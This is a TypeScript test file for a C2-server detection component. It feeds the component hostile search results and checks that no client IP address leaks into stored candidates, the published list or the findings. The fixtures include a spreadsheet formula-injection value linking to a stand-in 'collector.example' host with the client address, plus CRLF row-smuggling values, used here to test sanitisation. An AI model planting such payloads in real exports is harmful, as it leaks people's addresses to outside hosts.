/**
 * A search that is not to be trusted: it answers with everything that could carry a
 * client's address, and two willing people confirm whatever they are let confirm.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAddressTables } from '../attribution/address-tables.ts';
import { createAttributor } from '../attribution/attributor.ts';
import { casePolicy } from '../cases/policy.ts';
import type { C2Candidate } from '../domain/c2.ts';
import { PURPOSES } from '../domain/purposes.ts';
import { fixedClock } from '../engine/clock.ts';
import { createLog } from '../engine/log.ts';
import { listAudit } from '../store/state/audit.ts';
import { listCandidates } from '../store/state/c2-candidates.ts';
import { listFindings } from '../store/state/findings.ts';
import { createFindingStore } from '../store/state/fold.ts';
import { openState, type State } from '../store/state/open.ts';
import { requestGrant } from '../store/state/purpose-grants.ts';
import { templateDirectory } from '../store/state/test-support.ts';
import { C2List } from './c2-contract.ts';
import { C2Desk } from './c2-desk.ts';

const NOW = Date.UTC(2026, 5, 20, 12);
const DAY = 86_400_000;
const CLIENT = '198.51.100.77';
const SPELLINGS = [CLIENT, '::ffff:198.51.100.77', '198-51-100-77', 'c633644d', '3325256781', '１９８．５１．１００．７７'];
const TENANT = 'main';

const honest: C2Candidate = {
  address: '203.0.113.9',
  port: 443,
  transport: 'tcp',
  firstSeenAt: NOW - DAY,
  lastSeenAt: NOW - 60_000,
  score: 0.9,
  methods: ['fan-in'],
  family: 'mirai',
  features: { lift: 10 },
  because: { ja: '感染端末が集まっています。', en: 'Infected hosts meet there.' },
};
const at = (last: number, changes: Partial<C2Candidate> = {}): C2Candidate => ({ ...honest, address: `203.0.113.${last}`, ...changes });

const HOSTILE: readonly C2Candidate[] = [
  honest,
  ...SPELLINGS.map((family, i) => at(20 + i, { family })),
  at(30, { family: `=HYPERLINK("http://collector.example/?${CLIENT}")` }),
  at(31, { family: `Mirai\r\n${CLIENT},443` }),
  at(32, { because: { ja: `${CLIENT}が通信`, en: `talked to by ${CLIENT}` } }),
  at(33, { features: { [CLIENT]: 1 } }),
  at(34, { features: { [`x${CLIENT}`]: 1 } }),
  at(35, { methods: ['fan-in', CLIENT as 'beacon'] }),
  at(36, { score: 0.198_051_100_077 }),
  at(37, { firstSeenAt: NOW - DAY + 3_325 }),
  at(38, { address: `203.0.113.38,${CLIENT}` }),
  at(39, { address: `203.0.113.39 ${CLIENT}` }),
  // Servers by name only: addresses of people's machines.
  { ...honest, address: CLIENT },
  { ...honest, address: '10.0.0.7' },
  { ...honest, address: '100.64.3.4' },
  { ...honest, address: '2001:db8::77' },
  at(40, { port: 0 }),
  // A client that somebody else names as a server.
  { ...honest, address: '198.51.100.78', methods: ['indicator'] },
];

const constituents = [
  {
    id: 'isp',
    name: { ja: '例', en: 'Example' },
    kind: 'isp' as const,
    language: 'ja' as const,
    contact: { mail: [], letter: null },
    resources: [{ kind: 'prefix' as const, value: '2001:db8::/64', validFrom: null, validTo: null }],
  },
];
const nothing = Buffer.from('');
const tables = parseAddressTables({ asnIpv4: nothing, asnIpv6: nothing, countryIpv4: nothing, countryIpv6: nothing }, '2026-06-01');

const folder = mkdtempSync(join(tmpdir(), 'yagura-c2-desk-'));
let state: State;
let desk: C2Desk;

beforeAll(async () => {
  const log = createLog('silent');
  state = await openState({ path: folder, templateDirectory, log });
  const { db } = state;
  desk = new C2Desk({
    db,
    clock: fixedClock(NOW),
    log,
    purposes: PURPOSES,
    findings: createFindingStore(db, casePolicy),
    attributor: () => createAttributor(tables, constituents),
    search: () => Promise.resolve({ candidates: HOSTILE, seeds: 1, clients: new Set([CLIENT, '198.51.100.78']) }),
    announce: () => undefined,
  });
  const grant = {
    purpose: 'c2-detection',
    reason: 'a hostile search',
    grantedTo: 'alice',
    hours: 1,
    actor: 'alice',
    mayGrant: true,
    at: NOW,
  } as const;
  await requestGrant(db, TENANT, grant);
  await desk.run({ tenant: TENANT, actor: 'alice', from: NOW - DAY, to: NOW });
}, 60_000);
afterAll(async () => {
  await state?.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('a hostile search and two willing people', () => {
  it('stores nothing that names another address than the server’s', async () => {
    const stored = await listCandidates(state.db, TENANT);
    const said = stored.map(({ address: _, id: __, ...rest }) => JSON.stringify(rest));
    for (const text of said) for (const spelling of SPELLINGS) expect(text).not.toContain(spelling);
    const addresses = stored.map(({ address }) => address);
    for (const refused of ['203.0.113.20', '203.0.113.30', '203.0.113.31', '203.0.113.32', '203.0.113.33', '203.0.113.35'])
      expect(addresses).not.toContain(refused);
  });

  it('lets out the servers and not one client, as the list says itself', async () => {
    for (const { id } of await listCandidates(state.db, TENANT)) {
      for (const actor of ['alice', 'bob']) {
        await desk.confirm(TENANT, { id, actor, reason: 'they say so', at: NOW }).catch(() => undefined);
      }
    }
    const list = await desk.list(TENANT, 'alice');
    expect(C2List.safeParse(list).success).toBe(true);
    const text = JSON.stringify(list);
    for (const spelling of SPELLINGS) expect(text).not.toContain(spelling);
    expect(text).not.toMatch(/HYPERLINK|collector|\\r|\\n/);
    const addresses = list.map(({ address }) => address);
    for (const person of [CLIENT, '10.0.0.7', '100.64.3.4', '2001:db8::77', '203.0.113.40']) expect(addresses).not.toContain(person);
    expect(addresses).toEqual(expect.arrayContaining(['203.0.113.9', '203.0.113.23', '198.51.100.78']));
    expect(list.filter((entry) => entry.family !== undefined && entry.family !== 'Mirai')).toEqual([]);
  });

  it('makes findings that say no more than the list', async () => {
    const { rows } = await listFindings(state.db, TENANT, { kind: 'command-and-control', limit: 100 });
    expect(rows.length).toBeGreaterThan(3);
    for (const spelling of SPELLINGS) expect(JSON.stringify(rows)).not.toContain(spelling);
  });

  it('keeps a record of every refusal', async () => {
    const { rows } = await listAudit(state.db, TENANT, { limit: 1000 });
    const refusals = rows.filter(({ action }) => action === 'c2-confirmation-refused').map(({ detail }) => detail?.['why']);
    expect(new Set(refusals)).toEqual(new Set(['client', 'not-public', 'own-range', 'no-server-port']));
    expect(rows.filter(({ action }) => action === 'c2-list-read')).toHaveLength(1);
  });
});
